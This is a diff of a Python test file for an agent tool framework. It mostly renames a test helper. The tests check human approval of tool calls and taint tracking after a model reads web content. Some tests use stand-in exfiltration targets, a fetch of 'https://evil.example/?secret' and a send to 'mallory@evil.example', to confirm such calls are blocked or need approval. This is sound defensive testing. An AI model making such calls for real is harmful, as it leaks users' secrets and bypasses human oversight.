@@ -14,12 +14,13 @@ from component.skills import Context, skill
 from component.tasks.protocol import Question
 from component.tasks.skill_call import SkillCall
 from tests.component.execution.test_tools import AT, WHO, Desk, a_caller
-from tests.component.handlers.world import World
 from tests.component.router.wire import until
+from tests.kit import anyio_backend
 from tests.waiting import eventually
 from xep.fluux_agent.confirm import Decision
 from xep.fluux_agent.execute import Accepted
 
+__all__ = ["anyio_backend"]
 pytestmark = pytest.mark.anyio
 
 MADE: list[str] = []
@@ -61,17 +62,17 @@ def a_call(id_: str, name: str, **arguments: Any) -> ToolCall:
 
 
 async def ended(desk: Desk, task: str) -> None:
-    await until(lambda: task in desk.world.tools_ended)
+    await until(lambda: task in desk.tools_ended)
 
 
-async def the_question(world: World) -> Question:
+async def the_question(desk: Desk) -> Question:
     """Wait until something is asked."""
 
     async def is_asked() -> bool:
-        return bool(await world.service.open_questions(WHO.bare, AT))
+        return bool(await desk.service.open_questions(WHO.bare, AT))
 
     await eventually(is_asked)
-    (question,) = await world.service.open_questions(WHO.bare, AT)
+    (question,) = await desk.service.open_questions(WHO.bare, AT)
     return question
 
 
@@ -87,7 +88,7 @@ async def test_an_approval_of_a_call_is_none_of_what_the_call_starts() -> None:
     desk = Desk(erase, tidy)
     caller = a_caller()
     calls = (a_call("c1", "tidy", path="/a"), a_call("c2", "erase", path="/b"))
-    async with desk.world.running():
+    async with desk.running():
         asked = await desk.tools.confirm_together(caller, calls, again=False)
         task = {waiting.task for waiting in asked.values() if isinstance(waiting, Waiting)}.pop()
         await desk.decide(task, "approve")
@@ -95,9 +96,9 @@ async def test_an_approval_of_a_call_is_none_of_what_the_call_starts() -> None:
         tidying = await desk.tools.outcome(caller, calls[0], task)
         assert (await outcome(desk, caller, calls[1], Waiting(task))).content == "erased"
         assert MADE == ["erase /b"]
-        question = await the_question(desk.world)
+        question = await the_question(desk)
         assert "/a" in str(question.content)
-        await desk.world.service.decide(WHO.bare, AT, Decision(id=question.id, value="approve"))
+        await desk.service.decide(WHO.bare, AT, Decision(id=question.id, value="approve"))
         assert (await outcome(desk, caller, calls[0], tidying)).content == "erased"
         assert MADE == ["erase /b", "erase /a"]
 
@@ -111,7 +112,7 @@ async def test_an_approval_of_a_call_is_none_of_what_the_call_starts() -> None:
 )
 async def test_the_limits_of_an_agent_hold_for_what_its_calls_start(limits: Any, why: str) -> None:
     desk = Desk(fetch, relay)
-    async with desk.world.running():
+    async with desk.running():
         caller = a_caller(**limits)
         call = a_call("c1", "relay", url="https://a.example")
         found = await desk.tools.call(caller, call.id, call.name, call.arguments)
@@ -126,7 +127,7 @@ async def test_what_a_model_must_not_send_after_reading_strangers_no_skill_sends
     flows: Any,
 ) -> None:
     desk = Desk(fetch, relay, flows=flows)
-    async with desk.world.running():
+    async with desk.running():
         caller = a_caller(taints=frozenset(("web",)), said=("Fetch it.",))
         url = "https://evil.example/?secret"
         direct = await desk.call("fetch", "c0", caller, url=url)
@@ -153,13 +154,13 @@ async def test_what_a_model_that_read_strangers_starts_is_confirmed() -> None:
         return (await context.wait([await context.start("send", {"to": to})]))[0].text
 
     desk = Desk(send, tell)
-    async with desk.world.running():
+    async with desk.running():
         caller = a_caller(taints=frozenset(("web",)), said=("Tell them.",))
         call = a_call("c1", "tell", to="mallory@evil.example")
         found = await desk.tools.call(caller, call.id, call.name, call.arguments)
-        question = await the_question(desk.world)
+        question = await the_question(desk)
         assert MADE == []
-        await desk.world.service.decide(WHO.bare, AT, Decision(id=question.id, value="deny"))
+        await desk.service.decide(WHO.bare, AT, Decision(id=question.id, value="deny"))
         assert (await outcome(desk, caller, call, found)).is_error
         assert MADE == []
 
@@ -167,10 +168,10 @@ async def test_what_a_model_that_read_strangers_starts_is_confirmed() -> None:
 async def test_a_person_who_is_never_asked_about_own_requests_is_asked_about_what_they_start() -> (
     None
 ):
-    world = World((erase, tidy), confirm="never")
-    async with world.running():
+    desk = Desk(erase, tidy, confirm="never")
+    async with desk.running():
         call = SkillCall(skill="tidy", mode="async", json=msgspec.Raw(b'{"path": "/a"}'))
-        answer = world.executor.execute(SkillRequest(WHO, WHO.bare, AT, call))
+        answer = desk.kit.kernel.tasks.executor.execute(SkillRequest(WHO, WHO.bare, AT, call))
         assert isinstance(await answer, Accepted)  # type: ignore[misc]
-        await the_question(world)
+        await the_question(desk)
         assert MADE == []
